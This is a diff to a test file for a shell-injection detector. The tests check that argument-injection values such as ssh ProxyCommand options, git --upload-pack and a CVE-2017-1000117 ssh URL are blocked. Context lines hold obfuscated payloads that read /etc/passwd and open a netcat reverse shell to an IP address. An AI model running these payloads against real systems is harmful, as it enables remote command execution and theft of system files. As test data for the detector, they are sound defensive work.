@@ -965,11 +965,28 @@ t.test('argument injection: options that make git, ssh, tar, find, zip, sendmail
   for (const v of ['-c', '--exec', '-1', '--help', '-verbose', '-exercise more', 'extra cheese please', '-colors: red', '-c cores needed: 4', '-contact me', '-o output.txt', '--output=report.pdf', '-tt', '- exec the plan', '-exec summary attached', '-TT is my gamer tag', '-x/y coordinates', '-X/Y axis', '-c core.editor=vim']) {
     t.not(detectShellInjection(v)?.confidence, 'high', JSON.stringify(v));
   }
-  // Without a blank or a shell character the engine's gate never calls the detector: no finding
-  // either way, with or without the mask.
-  for (const v of ['--to-command=id', '-oProxyCommand=id', 'ext::sh']) {
+  // An option and its program with nothing else (no blank, no shell character): `=` is in the gate.
+  // So is an ssh URL whose host is an option (CVE-2017-1000117: git passed it to ssh).
+  for (const v of ['--to-command=id', '-oProxyCommand=id', '-oLocalCommand=id', '--upload-pack=id', '-ccore.sshCommand=id', 'ssh://-oProxyCommand=id/x', 'git+ssh://-oProxyCommand=touch%20/tmp/x/repo', 'SSH+GIT://-oProxyCommand=id/r']) {
+    t.equal(detectShellInjection(v)?.rule, 'shell.argument-injection', v);
+    t.equal(detectShellInjection(v, charMask(v))?.confidence, 'high', v);
+  }
+  for (const v of ['ssh://git@github.com/x/y.git', 'ssh://-/x', 'ssh://-1/x', 'git+ssh://host/-oProxyCommand=id', 'sshx://-oProxyCommand=id', '--color=auto', '-Dfoo=bar', 'a-b=c', 'summer=sale-x', 'size=M-L', 'g=-o']) {
     t.equal(detectShellInjection(v), undefined, v);
     t.equal(detectShellInjection(v, charMask(v)), undefined, v);
+  }
+  // Without a blank, a shell character or `=` the engine's gate never calls the detector: no
+  // finding either way, with or without the mask (`ext::sh` runs `sh` with no arguments).
+  for (const v of ['ext::sh']) {
+    t.equal(detectShellInjection(v), undefined, v);
+    t.equal(detectShellInjection(v, charMask(v)), undefined, v);
+  }
+  // Through the engine, whose gate is the detector's needsAlso.
+  const engine = createEngine({ log: false });
+  for (const v of ['-oProxyCommand=id', 'ssh://-oProxyCommand=id/x', '--upload-pack=id']) {
+    const verdict = engine.inspect({ method: 'GET', path: '/x', sources: [{ kind: 'query', path: 'query', value: { repo: v } }] });
+    t.equal(verdict.action, 'block', v);
+    t.ok(verdict.findings.some((f) => f.rule === 'shell.argument-injection'), v);
   }
 });
 
@@ -1388,7 +1405,10 @@ function scanPin(pieces: readonly string[]): { mayFind: string; trues: number; v
 }
 
 t.test('dense punctuation: mayFind and verdicts pinned on seeded tables (session 18 fast paths)', async (t) => {
-  t.same(scanPin(S18_PIECES_A), { mayFind: '8aca249b', trues: 44943, verdicts: '9da67339', findings: 1604 });
+  // Verdicts 9da67339 / 1604 findings at 2ca00a4; `=` in the argument-injection gate added 7, each
+  // a value that starts with an exec option and `=` (`--upload-pack=e`, `-oProxyCommand=/!`), with
+  // and without the mask: mayFind is unchanged.
+  t.same(scanPin(S18_PIECES_A), { mayFind: '8aca249b', trues: 44943, verdicts: '75045045', findings: 1611 });
   t.same(scanPin(S18_PIECES_B), { mayFind: '7f96b3dd', trues: 39304, verdicts: '69dc41e1', findings: 365 });
   t.same(scanPin(S18_PIECES_C), { mayFind: 'c8f751dd', trues: 34860, verdicts: '5ba4c749', findings: 650 });
   for (const w of ['/???/c?t /et?/pass??', '|/bi?/c?t /etc/passwd', ';/???/who?mi', ';/*/n?at -e sh 1.2.3.4 4444']) {
